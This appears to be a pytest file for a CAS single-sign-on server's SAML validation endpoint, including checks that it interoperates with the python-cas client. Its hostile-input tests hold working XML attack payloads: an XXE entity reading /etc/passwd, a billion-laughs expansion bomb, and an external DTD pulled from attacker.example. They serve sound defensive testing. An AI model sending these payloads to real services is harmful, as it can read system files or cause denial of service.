"""/samlValidate (CAS 3.0 §4.2): hostile request bodies, and responses python-cas accepts."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from functools import partial

import cas as python_cas
import pytest

from sso.cas.errors import CasError, Code
from sso.cas.saml import SAML_NS, SAMLP_NS, parse_saml_request, saml_failure, saml_success
from tests.cas.builders import SERVICE_URL, make_success

NOW = 1_700_000_000.0

REQUEST = b"""<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/">
<SOAP-ENV:Header/><SOAP-ENV:Body>
<samlp:Request xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol" MajorVersion="1" MinorVersion="1"
 RequestID="_192.168.16.51.1024506224022" IssueInstant="2002-06-19T17:03:44.022Z">
<samlp:AssertionArtifact>
  ST-1-u4hrm3td92cLxpCvrjylcas
</samlp:AssertionArtifact></samlp:Request></SOAP-ENV:Body></SOAP-ENV:Envelope>"""


def test_parse_spec_example() -> None:
    assert parse_saml_request(REQUEST) == ("_192.168.16.51.1024506224022", "ST-1-u4hrm3td92cLxpCvrjylcas")


def test_parse_python_cas_request() -> None:
    body = python_cas.CASClientWithSAMLV1.get_saml_assertion("ST-abc123")
    request_id, ticket = parse_saml_request(body)
    assert ticket == "ST-abc123" and len(request_id) == 36


def test_parse_bare_request() -> None:
    body = (
        b'<samlp:Request xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol" RequestID="r1">'
        b"<samlp:AssertionArtifact>ST-x</samlp:AssertionArtifact></samlp:Request>"
    )
    assert parse_saml_request(body) == ("r1", "ST-x")


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<samlp:Request xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol" RequestID="r">
<samlp:AssertionArtifact>&xxe;</samlp:AssertionArtifact></samlp:Request>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<samlp:Request xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol" RequestID="r">
<samlp:AssertionArtifact>&lol3;</samlp:AssertionArtifact></samlp:Request>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">
<samlp:Request xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol" RequestID="r">
<samlp:AssertionArtifact>ST-x</samlp:AssertionArtifact></samlp:Request>"""

NS_OPEN = b'<samlp:Request xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol"'


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(XXE, id="xxe"),
        pytest.param(LAUGHS, id="billion-laughs"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(REQUEST + b" " * 20_000, id="huge"),
        pytest.param(b"", id="empty"),
        pytest.param(b"ticket=ST-1", id="not-xml"),
        pytest.param(b"<unclosed", id="broken"),
        pytest.param(b"\xff\xfe<\x00a\x00", id="bad-encoding"),
        pytest.param(b"<r/>", id="no-request"),
        pytest.param(NS_OPEN + b' RequestID="r"/>', id="no-artifact"),
        pytest.param(
            NS_OPEN + b' RequestID="r"><samlp:AssertionArtifact> </samlp:AssertionArtifact></samlp:Request>',
            id="blank-artifact",
        ),
        pytest.param(
            NS_OPEN + b' RequestID="r"><samlp:AssertionArtifact>ST-1</samlp:AssertionArtifact>'
            b"<samlp:AssertionArtifact>ST-2</samlp:AssertionArtifact></samlp:Request>",
            id="two-artifacts",
        ),
        pytest.param(
            NS_OPEN + b"><samlp:AssertionArtifact>ST-1</samlp:AssertionArtifact></samlp:Request>", id="no-id"
        ),
        pytest.param(
            NS_OPEN + b' RequestID="a b&#10;c"><samlp:AssertionArtifact>ST-1</samlp:AssertionArtifact>'
            b"</samlp:Request>",
            id="bad-id",
        ),
    ],
)
def test_hostile_bodies(body: bytes) -> None:
    with pytest.raises(CasError) as info:
        parse_saml_request(body)
    assert info.value.code is Code.INVALID_REQUEST


make_success = partial(make_success, auth_time=NOW - 60)


class _Page:
    def __init__(self, content: bytes) -> None:
        self.content = content

    def close(self) -> None:
        pass


class _Session:
    """What python-cas's SAML client needs of a requests session: post() returning our body."""

    def __init__(self, body: bytes) -> None:
        self.body = body
        self.posted: list[bytes] = []

    def post(self, url: str, data: bytes, params: dict, headers: dict) -> _Page:
        self.posted.append(data)
        return _Page(self.body)


def verify_with_python_cas(body: bytes):  # type: ignore[no-untyped-def]
    client = python_cas.CASClientWithSAMLV1(
        service_url=SERVICE_URL, server_url="https://sso.example.org/cas/", session=_Session(body)
    )
    return client.verify_ticket("ST-abc")


def test_python_cas_accepts_success() -> None:
    user, attributes, _ = verify_with_python_cas(
        saml_success(make_success(), "req-1", "sso.example.org", NOW)
    )
    assert user == "ada"
    assert attributes == {"mail": "ada@univ-demo.fr", "eduPersonAffiliation": ["student", "member"]}


def test_python_cas_rejects_failure() -> None:
    error = CasError(Code.INVALID_TICKET, "ticket ST-abc… not recognized")
    user, attributes, _ = verify_with_python_cas(saml_failure(error, "req-1", NOW))
    assert user is None and attributes == {}


def test_success_document() -> None:
    body = saml_success(make_success(), "req-1", "sso.example.org", NOW, lifetime=30)
    root = ET.fromstring(body)
    response = root.find(f".//{{{SAMLP_NS}}}Response")
    assert response is not None
    assert response.get("InResponseTo") == "req-1" and response.get("Recipient") == SERVICE_URL
    assert response.get("ResponseID", "").startswith("_")
    code = response.find(f"{{{SAMLP_NS}}}Status/{{{SAMLP_NS}}}StatusCode")
    assert code is not None and code.get("Value") == "samlp:Success"
    assertion = response.find(f"{{{SAML_NS}}}Assertion")
    assert assertion is not None and assertion.get("Issuer") == "sso.example.org"
    conditions = assertion.find(f"{{{SAML_NS}}}Conditions")
    assert conditions is not None
    assert conditions.get("NotBefore") == "2023-11-14T22:12:50Z"
    assert conditions.get("NotOnOrAfter") == "2023-11-14T22:13:50Z"
    assert assertion.findtext(f".//{{{SAML_NS}}}Audience") == SERVICE_URL
    statement = assertion.find(f"{{{SAML_NS}}}AuthenticationStatement")
    assert statement is not None and statement.get("AuthenticationInstant") == "2023-11-14T22:12:20Z"


def test_no_attribute_statement_when_nothing_released() -> None:
    body = saml_success(make_success(attributes={}), "req-1", "sso", NOW)
    assert ET.fromstring(body).find(f".//{{{SAML_NS}}}AttributeStatement") is None
    user, attributes, _ = verify_with_python_cas(body)
    assert user == "ada" and attributes == {}


def test_hostile_values_escaped() -> None:
    hostile = '<x a="1">&\x00'
    body = saml_success(make_success(user=hostile, attributes={"cn": (hostile,)}), hostile, "sso", NOW)
    root = ET.fromstring(body)
    assert root.findtext(f".//{{{SAML_NS}}}NameIdentifier") == '<x a="1">&'
    assert root.findtext(f".//{{{SAML_NS}}}AttributeValue") == '<x a="1">&'


@pytest.mark.parametrize(
    ("code", "value"), [(Code.INVALID_TICKET, "samlp:Requester"), (Code.INTERNAL_ERROR, "samlp:Responder")]
)
def test_failure_document(code: Code, value: str) -> None:
    root = ET.fromstring(saml_failure(CasError(code, "why"), "", NOW))
    response = root.find(f".//{{{SAMLP_NS}}}Response")
    assert response is not None and "InResponseTo" not in response.attrib
    assert response.find(f".//{{{SAMLP_NS}}}StatusCode").get("Value") == value  # type: ignore[union-attr]
    assert response.findtext(f".//{{{SAMLP_NS}}}StatusMessage") == f"{code.value}: why"
    assert response.find(f"{{{SAML_NS}}}Assertion") is None
